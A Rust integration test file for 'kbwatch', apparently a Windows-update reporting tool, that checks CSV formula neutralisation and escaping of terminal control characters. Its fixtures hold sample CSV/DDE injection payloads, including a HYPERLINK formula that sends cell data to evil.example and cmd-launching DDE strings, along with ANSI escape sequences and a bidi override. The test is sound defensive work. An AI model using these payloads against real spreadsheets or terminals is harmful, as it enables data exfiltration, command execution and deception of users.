//! Hostile text from the API in what kbwatch prints: `kbwatch report` neutralises CSV cells a
//! spreadsheet would evaluate and shows control characters escaped in tables; `kbwatch scan` and
//! `kbwatch validate --online` show an API error message escaped.

use std::path::{Path, PathBuf};
use std::time::Duration;

use chrono::Utc;
use kbwatch::model::{DeviceOutcome, DeviceResult, Machine, MissingKb};
use kbwatch::store::{ListedDevice, Store};
use secrecy::SecretString;

use crate::kit::auth::TenantAuth;
use crate::kit::{ConfigBuilder, Kbwatch, Tenant, fresh_database};

/// (machine id, computerDnsName, osPlatform, rbacGroupName, machineTags).
const DEVICES: &[(&str, &str, &str, &str, &[&str])] = &[
    (
        "a",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click, here\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        &["=tag", "\x1b]0;title\x07"],
    ),
    ("b", "\x1b[2J\x1b[H\x07bell", "\tWindows11", "\r=1+1", &["-2+3"]),
    ("c", "-10+20", "Windows\u{202e}txt.exe", "\u{9b}31mred", &[]),
    ("d", "ws-00001.corp.contoso.com", "Windows11", "Servers", &["VIP"]),
];

/// (KB id, KB name).
const KBS: &[(&str, &str)] = &[
    ("5001", "=cmd|' /C notepad'!A0"),
    ("-5002", "\x1b]0;pwned\x07\x1b[1A"),
    ("5003", "@IMPORTXML(\"http://evil.example\")"),
    ("5004", "2024-01 Cumulative Update"),
];

/// A tenant name as the database may hold it (the store keeps any name it is given).
const TENANT: &str = "@t1\x1b[31m";

const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

fn machine(id: &str, dns: &str, platform: &str, rbac: &str, tags: &[&str]) -> Machine {
    Machine {
        id: id.repeat(40),
        computer_dns_name: Some(dns.into()),
        os_platform: Some(platform.into()),
        os_version: None,
        os_build: Some(22631),
        health_status: Some("Active".into()),
        onboarding_status: Some("Onboarded".into()),
        rbac_group_id: Some("1".into()),
        rbac_group_name: Some(rbac.into()),
        machine_tags: tags.iter().map(|t| (*t).to_owned()).collect(),
        first_seen: None,
        last_seen: Some(Utc::now()),
        is_potential_duplication: Some(false),
        merged_into_machine_id: None,
        raw: serde_json::value::RawValue::from_string(
            serde_json::json!({ "id": id.repeat(40), "computerDnsName": dns, "machineTags": tags })
                .to_string(),
        )
        .unwrap(),
    }
}

/// A database holding the hostile devices, each missing every hostile KB, as one scan stored them.
async fn hostile_database() -> String {
    let url = fresh_database().await;
    let store = Store::connect(&SecretString::from(url.clone()), 2).await.unwrap();
    store.migrate().await.unwrap();
    let tenant = store.ensure_tenant(TENANT).await.unwrap();
    let run = store.start_run(tenant, "manual", None, "test").await.unwrap().unwrap();
    let machines: Vec<Machine> =
        DEVICES.iter().map(|(id, dns, os, rbac, tags)| machine(id, dns, os, rbac, tags)).collect();
    let listed: Vec<ListedDevice<'_>> = machines
        .iter()
        .map(|m| ListedDevice { machine_id: m.id.clone(), id_valid: true, machine: m })
        .collect();
    let planned = store.upsert_listed_devices(tenant, run, Utc::now(), &listed).await.unwrap();
    assert_eq!(planned.len(), DEVICES.len(), "every device stored");
    let kbs: Vec<MissingKb> = KBS
        .iter()
        .map(|(id, name)| MissingKb {
            id: (*id).into(),
            name: Some((*name).into()),
            products_names: Some(vec!["=products".into()]),
            url: Some("=url".into()),
            machine_missed_on: Some(1),
            cve_addressed: Some(2),
        })
        .collect();
    let results: Vec<DeviceResult> = planned
        .iter()
        .map(|p| DeviceResult {
            device_id: p.device_id,
            scanned_at: Utc::now(),
            last_seen: p.last_seen,
            first_scan: true,
            outcome: DeviceOutcome::Ok(kbs.clone()),
        })
        .collect();
    store.write_results(run, &results, &kbs, 1, 0).await.unwrap();
    store.pool().close().await;
    url
}

/// A configuration file for `url` whose one tenant calls `api_base` with a static token.
fn config_file(dir: &Path, url: &str, api_base: &str) -> PathBuf {
    let token_file = dir.join("token");
    std::fs::write(&token_file, "static-token").unwrap();
    let tenant = Tenant::named("t1")
        .api_base(api_base.parse().expect("a URL"))
        .rescan_after(Duration::from_secs(20 * 3600))
        .retry_base(Duration::from_millis(10))
        .auth(TenantAuth::TokenFile { token_file });
    let config = dir.join("kbwatch.toml");
    ConfigBuilder::new(url).tenant(tenant).write(&config);
    config
}

/// Runs the kbwatch binary; (exit success, stdout, stderr).
async fn kbwatch(config: &Path, args: &[&str]) -> (bool, String, String) {
    let out = Kbwatch::new(args).config(config).env("KBWATCH_LOG", "warn").output().await;
    (out.success(), out.stdout, out.stderr)
}

/// The characters that must not reach a terminal: C0 but newline, DEL, C1, bidi overrides.
fn controls(text: &str) -> Vec<char> {
    let bad = |c: char| {
        (c.is_control() && c != '\n')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    text.chars().filter(|c| bad(*c)).collect()
}

/// What a neutralised CSV cell of `original` reads as.
fn neutralised(original: &str) -> String {
    if original.starts_with(FORMULA_START) { format!("'{original}") } else { original.to_owned() }
}

/// The CSV records of a report, keyed by their `key` column, after checking the header.
fn csv_by(text: &str, key: &str) -> Vec<csv::StringRecord> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header = reader.headers().expect("CSV header").clone();
    assert!(header.iter().any(|h| h == key), "{header:?}");
    reader.records().map(|r| r.expect("valid RFC 4180 with one field per column")).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reports_neutralise_formulas_in_csv_and_escape_controls_in_tables() {
    let url = hostile_database().await;
    let dir = tempfile::tempdir().unwrap();
    let config = config_file(dir.path(), &url, "http://127.0.0.1:9");

    let (ok, devices, err) = kbwatch(&config, &["report", "devices", "--format", "csv"]).await;
    assert!(ok, "{err}");
    let records = csv_by(&devices, "computer_dns_name");
    assert_eq!(records.len(), DEVICES.len());
    for (id, dns, os, rbac, _) in DEVICES {
        let row = records.iter().find(|r| r[1] == id.repeat(40)).expect("device listed");
        assert_eq!(&row[0], neutralised(TENANT));
        assert_eq!(&row[2], neutralised(dns), "computer_dns_name of {id}");
        assert_eq!(&row[3], neutralised(os), "os_platform of {id}");
        assert_eq!(&row[6], neutralised(rbac), "rbac_group_name of {id}");
        assert_eq!(&row[10], KBS.len().to_string(), "missing_kbs is a number, as it was");
    }
    assert!(devices.contains("ws-00001.corp.contoso.com,"), "plain names stay unquoted");

    let (ok, kbs, err) = kbwatch(&config, &["report", "kbs", "--format", "csv"]).await;
    assert!(ok, "{err}");
    let records = csv_by(&kbs, "kb_name");
    assert_eq!(records.len(), KBS.len());
    for (id, name) in KBS {
        let row = records.iter().find(|r| r[1] == neutralised(id)).expect("KB listed");
        assert_eq!(&row[2], neutralised(name), "kb_name of {id}");
    }
    for record in records.iter().chain(&csv_by(&devices, "machine_id")) {
        for cell in record {
            let number = cell.parse::<f64>().is_ok();
            assert!(number || !cell.starts_with(FORMULA_START), "{cell:?} in {record:?}");
        }
    }

    for kind in ["devices", "kbs", "summary"] {
        let (ok, table, err) = kbwatch(&config, &["report", kind]).await;
        assert!(ok, "{err}");
        assert_eq!(controls(&table), Vec::<char>::new(), "report {kind}:\n{table}");
        if kind == "devices" {
            assert!(table.contains("\\x1b[2J\\x1b[H\\x07bell"), "{table}");
            assert!(table.contains("Windows\\u{202e}txt.exe") && table.contains("\\x0d=1+1"));
            assert!(table.contains("@t1\\x1b[31m"), "{table}");
        }
    }
    let (_, kbs_table, _) = kbwatch(&config, &["report", "kbs"]).await;
    assert!(kbs_table.contains("\\x1b]0;pwned\\x07\\x1b[1A"), "{kbs_table}");

    let (ok, json, err) = kbwatch(&config, &["report", "devices", "--format", "json"]).await;
    assert!(ok, "{err}");
    let json: Vec<serde_json::Value> = serde_json::from_str(&json).unwrap();
    let names: std::collections::BTreeSet<&str> =
        json.iter().map(|d| d["computer_dns_name"].as_str().unwrap()).collect();
    assert_eq!(names, DEVICES.iter().map(|d| d.1).collect(), "JSON stays exact");
}

/// An API that answers every request with 403 and `message` in the Defender error envelope.
async fn forbidding_api(message: &str) -> String {
    let body = serde_json::json!({"error": {"code": "Forbidden", "message": message}}).to_string();
    let router = axum::Router::new().fallback(move || {
        let body = body.clone();
        async move { (axum::http::StatusCode::FORBIDDEN, body) }
    });
    crate::hostile_server::Hostile::start(router, None).await.url.to_string()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn scan_and_validate_show_a_hostile_api_message_escaped() {
    let hostile = "Missing role\x1b]0;pwned\x07\x1b[2J\r\u{9b}1m";
    let shown = "Missing role\\x1b]0;pwned\\x07\\x1b[2J\\x0d\\u{9b}1m";
    let api = forbidding_api(hostile).await;
    let dir = tempfile::tempdir().unwrap();
    let config = config_file(dir.path(), &fresh_database().await, &api);
    let (ok, out, err) = kbwatch(&config, &["validate", "--online"]).await;
    assert!(!ok, "a forbidden probe fails validation\n{out}{err}");
    assert!(out.contains(&format!("t1: forbidden: {shown}\n")), "{out}");
    assert_eq!(controls(&out), Vec::<char>::new(), "{out:?}");

    let (ok, out, err) = kbwatch(&config, &["scan"]).await;
    assert!(!ok, "a forbidden scan fails\n{out}{err}");
    // The summary on stdout, or the failure line on stderr; log lines (JSON) are not printed text.
    let printed: Vec<&str> =
        out.lines().chain(err.lines().filter(|l| !l.starts_with('{'))).collect();
    let printed = printed.join("\n");
    assert!(printed.contains(&format!("forbidden: {shown}")), "{out}{err}");
    assert_eq!(controls(&out), Vec::<char>::new(), "{out:?}");
    assert_eq!(controls(&printed), Vec::<char>::new(), "{printed:?}");
}
